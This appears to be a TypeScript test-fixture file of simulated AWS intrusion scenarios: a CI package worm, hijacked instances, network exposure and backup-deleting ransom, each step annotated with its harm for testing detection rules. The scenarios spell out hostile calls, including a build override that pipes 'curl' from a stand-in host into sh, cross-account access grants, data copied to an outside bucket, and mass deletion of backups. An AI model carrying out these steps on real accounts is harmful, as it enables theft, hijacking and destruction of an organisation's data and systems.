import { AGENTS, HOME, role, STRANGER, user, wrapped, type Intrusion, type Step } from '../step';

const ok = { requestId: '5b7f0a0e-0000-4000-8000-000000000000', _return: true };
const BUN = 'aws-sdk-js/3.932.0 ua/2.1 os/linux#6.11.0-1018-azure lang/js md/bun#1.3.2 api/secrets-manager#3.932.0';
const PACU = 'Boto3/1.40.72 md/Botocore#1.40.72 ua/2.1 os/linux#6.12.38+kali-amd64 lang/python#3.13.7 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.40.72';
const strange = (service: string, rest: string): string => `arn:aws:${service}:us-east-1:${STRANGER}:${rest}`;
const own = (service: string, rest: string): string => `arn:aws:${service}:us-east-1:${HOME}:${rest}`;

/**
 * A fifth set (its other half is in `services.ts`), written down when the rules had been mended after the fourth and
 * held against everyday work: the build and what it publishes, machines exchanged under their owners, quiet ways of the
 * network, and ransom that needs no key.
 */
export const compute: readonly Intrusion[] = [
  {
    name: 'a worm in the packages, and the pipelines that build them',
    as: role('ci-build', 'GitHubActions', '198.51.100.171', BUN),
    steps: [
      { call: 'sts:GetCallerIdentity' },
      ...['us-east-1', 'us-east-2', 'us-west-2', 'eu-west-1', 'eu-central-1', 'ap-southeast-2'].flatMap((region, n): Step[] => [
        { call: 'secretsmanager:ListSecrets', request: { maxResults: 100 }, region, after: 1 },
        { call: 'secretsmanager:GetSecretValue', request: { secretId: `prod/${n}` }, region, after: 1, ...(n === 5 ? { harm: 'secrets of one region after the other' } : {}) },
      ]),
      { call: 'codeartifact:PutPackageOriginConfiguration', request: { domain: 'acme', repository: 'npm', format: 'npm', package: 'acme-ui', restrictions: { publish: 'ALLOW', upstream: 'ALLOW' } }, harm: 'a package of the company’s may come from outside again' },
      { call: 'codeartifact:PutRepositoryPermissionsPolicy', request: { domain: 'acme', repository: 'npm', policyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${STRANGER}:root` }, Action: ['codeartifact:PublishPackageVersion', 'codeartifact:ReadFromRepository'], Resource: '*' }] }) }, harm: 'a strange account may publish packages' },
      { call: 'codebuild:UpdateWebhook', request: { projectName: 'release', filterGroups: [[{ type: 'EVENT', pattern: 'PUSH, PULL_REQUEST_CREATED, PULL_REQUEST_UPDATED' }]], buildType: 'BUILD' }, harm: 'pull requests of anybody built with the rights of the release' },
      { call: 'codebuild:ImportSourceCredentials', request: { serverType: 'GITHUB', authType: 'PERSONAL_ACCESS_TOKEN', token: 'HIDDEN_DUE_TO_SECURITY_REASONS', shouldOverwrite: true }, harm: 'the token for the source exchanged' },
      { call: 'codebuild:StartBuild', request: { projectName: 'release', buildspecOverride: 'version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s 198.51.100.171 | sh', privilegedModeOverride: true, serviceRoleOverride: `arn:aws:iam::${HOME}:role/release` }, harm: 'a build of commands of the intruder’s own' },
      { call: 'codepipeline:UpdatePipeline', request: { pipeline: { name: 'release', roleArn: `arn:aws:iam::${HOME}:role/pipeline`, stages: [{ name: 'Source', actions: [{ name: 'Source', actionTypeId: { category: 'Source', owner: 'AWS', provider: 'S3', version: '1' }, configuration: { S3Bucket: 'stranger-drop', S3ObjectKey: 'src.zip' } }] }] } }, harm: 'a pipeline fed from another bucket' },
      { call: 'codedeploy:CreateDeployment', request: { applicationName: 'shop', deploymentGroupName: 'prod', ignoreApplicationStopFailures: true, revision: { revisionType: 'S3', s3Location: { bucket: 'stranger-drop', key: 'shop.zip', bundleType: 'zip' } } }, harm: 'a version of the intruder’s put on all machines' },
      { call: 'ecr:PutImage', request: { repositoryName: 'shop', imageTag: 'latest', imageManifest: '{}' }, response: { image: { repositoryName: 'shop', imageId: { imageTag: 'latest' } } } },
      { call: 'ecr:PutRegistryPolicy', request: { policyText: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${STRANGER}:root` }, Action: ['ecr:ReplicateImage', 'ecr:CreateRepository'], Resource: own('ecr', 'repository/*') }] }) }, harm: 'a strange account may write images' },
      { call: 'signer:AddProfilePermission', request: { profileName: 'release', action: 'signer:StartSigningJob', principal: STRANGER, statementId: 'x' }, harm: 'a strange account may sign code' },
    ],
  },
  {
    name: 'machines exchanged under their owners',
    as: role('PlatformEngineer', 'nina@example.com', '203.0.113.171', AGENTS.cli),
    steps: [
      { call: 'ec2:DescribeLaunchTemplates', request: { DescribeLaunchTemplatesRequest: '' } },
      wrapped('GetLaunchTemplateData', { InstanceId: 'i-0123456789abcdef0' }, { harm: 'the start script of a machine read by way of a template' }),
      wrapped('CreateLaunchTemplateVersion', { LaunchTemplateId: 'lt-0aa11bb22cc33dd44', SourceVersion: '7', LaunchTemplateData: { ImageId: 'ami-0ff0ff0ff0ff0ff0f', UserData: 'IyEvYmluL2Jhc2gKY3VybA==', MetadataOptions: { HttpTokens: 'optional', HttpPutResponseHopLimit: 3 } } }, { harm: 'a template with the old metadata service' }),
      wrapped('ModifyLaunchTemplate', { LaunchTemplateId: 'lt-0aa11bb22cc33dd44', SetDefaultVersion: 8 }, {}),
      { call: 'autoscaling:PutScheduledUpdateGroupAction', request: { autoScalingGroupName: 'web', scheduledActionName: 'x', recurrence: '0 3 * * *', minSize: 60, maxSize: 400, desiredCapacity: 60 }, harm: 'a scaling group told to grow to 60 machines each night' },
      { call: 'autoscaling:PutLifecycleHook', request: { autoScalingGroupName: 'web', lifecycleHookName: 'x', lifecycleTransition: 'autoscaling:EC2_INSTANCE_LAUNCHING', notificationTargetARN: strange('sqs', 'x'), roleARN: `arn:aws:iam::${HOME}:role/hook` }, harm: 'a strange account told of each machine that starts' },
      { call: 'ec2:ModifyInstanceAttribute', request: { instanceId: 'i-0123456789abcdef0', groupSet: { items: [{ groupId: 'sg-0ff11ff22ff33ff44' }] } }, response: ok },
      { call: 'ec2:AssociateAddress', request: { instanceId: 'i-0123456789abcdef0', allocationId: 'eipalloc-0aa11bb22cc33dd44', allowReassociation: true } },
      { call: 'ec2:AuthorizeSecurityGroupIngress', request: { groupId: 'sg-0ff11ff22ff33ff44', ipPermissions: { items: [{ ipProtocol: 'tcp', fromPort: 5985, toPort: 5986, groups: {}, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] }, ipv6Ranges: {}, prefixListIds: {} }] } }, response: ok, harm: 'remote commands for Windows opened to everyone' },
      { call: 'ec2:AuthorizeSecurityGroupIngress', request: { groupId: 'sg-0ff11ff22ff33ff44', ipPermissions: { items: [{ ipProtocol: 'tcp', fromPort: 2375, toPort: 2376, groups: {}, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] }, ipv6Ranges: {}, prefixListIds: {} }] } }, response: ok, harm: 'the daemon of Docker opened to everyone' },
      { call: 'ec2:RunInstances', request: { instancesSet: { items: [{ imageId: 'ami-0ff0ff0ff0ff0ff0f', minCount: 1, maxCount: 1 }] }, instanceType: 't3.large', iamInstanceProfile: { name: 'AdminProfile' }, userData: '<sensitiveDataRemoved>', networkInterfaceSet: { items: [{ deviceIndex: 0, associatePublicIpAddress: true, subnetId: 'subnet-0aa' }] } } },
      { call: 'ec2:ModifyInstanceAttribute', request: { instanceId: 'i-0123456789abcdef0', instanceType: { value: 'p4d.24xlarge' } }, response: ok, harm: 'a small machine made one of the most expensive' },
      wrapped('ModifyFleet', { FleetId: 'fleet-0aa11bb2-1111-4222-8333-444455556666', TargetCapacitySpecification: { TotalTargetCapacity: 500, SpotTargetCapacity: 500 } }, { harm: 'a fleet made one of 500 machines' }),
      { call: 'ec2-instance-connect:OpenTunnel', request: { instanceId: 'i-0123456789abcdef0', remotePort: '22', instanceConnectEndpointId: 'eice-0aa11bb22cc33dd44', maxTunnelDuration: '3600', privateIpAddress: '10.0.1.5' }, harm: 'a tunnel to a machine without an address' },
      { call: 'ssm:PutParameter', request: { name: '/images/golden', type: 'String', value: 'HIDDEN_DUE_TO_SECURITY_REASONS', dataType: 'aws:ec2:image', overwrite: true }, harm: 'the image that all machines are made of exchanged' },
      { call: 'ssm:CreateMaintenanceWindow', request: { name: 'x', schedule: 'rate(1 hour)', duration: 1, cutoff: 0, allowUnassociatedTargets: true } },
      { call: 'ssm:RegisterTaskWithMaintenanceWindow', request: { windowId: 'mw-0aa11bb22cc33dd44', taskArn: 'AWS-RunShellScript', taskType: 'RUN_COMMAND', taskInvocationParameters: 'HIDDEN_DUE_TO_SECURITY_REASONS', maxConcurrency: '100%' }, harm: 'commands run on all machines each hour' },
    ],
  },
  {
    name: 'a network listened to and led away without a gateway',
    as: role('NetworkOps', 'omar@example.com', '203.0.113.172', PACU),
    steps: [
      { call: 'ec2:DescribeVpcEndpoints', request: { DescribeVpcEndpointsRequest: '' } },
      wrapped('CreateVpcEndpoint', { VpcId: 'vpc-0123456789abcdef0', VpcEndpointType: 'Interface', ServiceName: 'com.amazonaws.vpce.us-east-1.vpce-svc-0ff11ff22ff33ff44', SubnetId: { content: 'subnet-0aa', tag: 1 } }, { harm: 'a private way to a service of somebody else’s' }),
      { call: 'vpc-lattice:PutAuthPolicy', request: { resourceIdentifier: 'sn-0aa11bb22cc33dd44', policy: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: '*', Action: '*', Resource: '*' }] }) }, harm: 'services of the inner network open to everyone' },
      { call: 'route53:AssociateVPCWithHostedZone', request: { hostedZoneId: 'Z0FF11FF22FF33', vPC: { vPCRegion: 'us-east-1', vPCId: 'vpc-0123456789abcdef0' } } },
      { call: 'route53:CreateVPCAssociationAuthorization', request: { hostedZoneId: 'Z0AA11BB22CC33', vPC: { vPCRegion: 'us-east-1', vPCId: 'vpc-0ff11ff22ff33ff44' } }, harm: 'names of the inner network shown to another one' },
      { call: 'elasticloadbalancing:CreateListener', request: { loadBalancerArn: own('elasticloadbalancing', 'loadbalancer/net/admin/1'), protocol: 'TCP', port: 22, defaultActions: [{ type: 'forward', targetGroupArn: own('elasticloadbalancing', 'targetgroup/bastion/1') }] }, harm: 'SSH through a load balancer' },
      { call: 'elasticloadbalancing:ModifyRule', request: { ruleArn: own('elasticloadbalancing', 'listener-rule/app/shop/1/2/3'), actions: [{ type: 'redirect', redirectConfig: { host: 'login.example.net', protocol: 'HTTPS', port: '443', path: '/', statusCode: 'HTTP_302' } }] }, harm: 'visitors sent to another host' },
      { call: 'elasticloadbalancing:SetWebAcl', request: { resourceArn: own('elasticloadbalancing', 'loadbalancer/app/shop/1') } },
      { call: 'apigateway:UpdateMethod', request: { restApiId: 'a1b2c3d4e5', resourceId: 'r1', httpMethod: 'POST', patchOperations: [{ op: 'replace', path: '/authorizationType', value: 'NONE' }] }, harm: 'an interface that asks nobody who he is' },
      { call: 'wafv2:UpdateWebACL', request: { name: 'shop', scope: 'REGIONAL', id: 'x', defaultAction: { allow: {} }, rules: [], lockToken: 'x', visibilityConfig: { sampledRequestsEnabled: false, cloudWatchMetricsEnabled: false, metricName: 'shop' } }, harm: 'a firewall without a rule' },
      { call: 'wafv2:DeleteLoggingConfiguration', request: { resourceArn: own('wafv2', 'regional/webacl/shop/x') }, harm: 'the log of the firewall switched off' },
      { call: 'acm:ExportCertificate', request: { certificateArn: own('acm', 'certificate/1'), passphrase: 'HIDDEN_DUE_TO_SECURITY_REASONS' }, harm: 'a certificate taken with its key' },
      { call: 'acm-pca:IssueCertificate', request: { certificateAuthorityArn: own('acm-pca', 'certificate-authority/1'), csr: 'x', signingAlgorithm: 'SHA256WITHRSA', templateArn: 'arn:aws:acm-pca:::template/SubordinateCACertificate_PathLen0/V1', validity: { value: 10, type: 'YEARS' } }, harm: 'an authority of the intruder’s under the company’s own' },
      wrapped('ReplaceRouteTableAssociation', { AssociationId: 'rtbassoc-0aa11bb22cc33dd44', RouteTableId: 'rtb-0ff11ff22ff33ff44' }, {}),
      { call: 'ec2:DeleteNetworkAclEntry', request: { networkAclId: 'acl-0123456789abcdef0', ruleNumber: 90, egress: false } },
    ],
  },
  {
    name: 'ransom without a key: whatever holds data',
    as: user('svc-backup', PACU, '198.51.100.174'),
    steps: [
      { call: 'elasticfilesystem:DescribeFileSystems', request: {} },
      { call: 's3:PutBucketInventoryConfiguration', request: { bucketName: 'customer-files', id: 'x', InventoryConfiguration: { Destination: { S3BucketDestination: { AccountId: STRANGER, Bucket: 'arn:aws:s3:::stranger-drop', Format: 'CSV' } }, IsEnabled: true, Id: 'x' } }, harm: 'a list of all objects sent to a strange account' },
      { call: 's3:CreateJob', request: { accountId: HOME, operation: { s3PutObjectCopy: { targetResource: 'arn:aws:s3:::stranger-drop' } }, confirmationRequired: false, priority: 10, roleArn: `arn:aws:iam::${HOME}:role/batch` }, harm: 'all objects copied out by a job' },
      { call: 's3:PutAccessPointPolicy', request: { name: 'x', accountId: HOME, bucketName: 'customer-files', Policy: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: STRANGER }, Action: 's3:*', Resource: own('s3', 'accesspoint/x/object/*') }] }) }, harm: 'an access point opened to a strange account' },
      { call: 'elasticfilesystem:PutFileSystemPolicy', request: { fileSystemId: 'fs-0aa11bb22cc33dd44', policy: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: '*' }, Action: ['elasticfilesystem:ClientMount', 'elasticfilesystem:ClientWrite', 'elasticfilesystem:ClientRootAccess'] }] }) }, harm: 'a file system opened to everyone' },
      { call: 'elasticfilesystem:DeleteFileSystem', request: { fileSystemId: 'fs-0bb11bb22cc33dd44' }, harm: 'a file system deleted' },
      { call: 'fsx:DeleteFileSystem', request: { fileSystemId: 'fs-0cc11bb22cc33dd44', windowsConfiguration: { skipFinalBackup: true } }, harm: 'a file system of Windows deleted without a copy' },
      { call: 'fsx:DeleteBackup', request: { backupId: 'backup-0aa11bb22cc33dd44' }, harm: 'a copy of it deleted' },
      { call: 'dynamodb:DeleteTable', request: { tableName: 'orders' }, response: { tableDescription: { tableName: 'orders', tableStatus: 'DELETING' } } },
      { call: 'dynamodb:DeleteBackup', request: { backupArn: own('dynamodb', 'table/orders/backup/0177') }, harm: 'a copy of a table deleted' },
      { call: 'rds:DeleteDBClusterAutomatedBackup', request: { dbClusterResourceId: 'cluster-AA11BB22' }, harm: 'the kept backups of a database deleted' },
      { call: 'elasticache:CopySnapshot', request: { sourceSnapshotName: 'sessions', targetSnapshotName: 'x', targetBucket: 'stranger-drop' }, harm: 'sessions of visitors copied to another bucket' },
      { call: 'es:UpdateDomainConfig', request: { domainName: 'search', accessPolicies: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'es:*', Resource: own('es', 'domain/search/*') }] }) }, harm: 'a search index opened to everyone' },
      { call: 'redshift:ModifyCluster', request: { clusterIdentifier: 'dw', publiclyAccessible: true, masterUserPassword: '****' }, harm: 'the warehouse put on the Internet, with a new password' },
      { call: 'kms:UpdateKeyDescription', request: { keyId: own('kms', 'key/1'), description: 'pay' } },
      { call: 'backup:StopBackupJob', request: { backupJobId: '0aa11bb2-1111-4222-8333-444455556666' } },
      { call: 'backup:DeleteBackupPlan', request: { backupPlanId: '0aa11bb2-1111-4222-8333-444455556667' }, harm: 'the plan of backups deleted' },
    ],
  },
];
